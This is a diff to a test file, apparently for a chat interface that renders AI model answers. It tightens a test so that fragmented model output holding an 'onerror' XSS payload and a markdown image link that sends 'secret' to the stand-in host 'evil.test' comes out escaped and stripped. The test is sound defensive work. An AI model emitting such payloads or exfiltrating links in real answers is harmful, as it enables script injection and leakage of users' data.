@@ -159,14 +159,14 @@ describe.each(builds)('$name', (build) => {
     expect(message!.metadata).toMatchObject({ carrel });
   });
 
-  test('gets no HTML and no images of a model, however they are cut', async () => {
+  test('gets no HTML, images or foreign links of a model, however they are cut', async () => {
     const pieces = 'Run <img src=x onerror=alert(1)> npm !'
       .split('')
       .concat('[tide](http', '://evil.test/', 'p.png?q=secret) `<b>`', ' [1].');
     model.play(textAnswer(...pieces));
     const { errors, message } = await asked();
     expect(errors).toEqual([]);
-    expect(textOf(message)).toBe('Run &lt;img src=x onerror=alert(1)> npm [tide](http://evil.test/p.png?q=secret) `<b>` [1].');
+    expect(textOf(message)).toBe('Run &lt;img src=x onerror=alert(1)> npm [tide] `<b>` [1].');
   });
 });
 
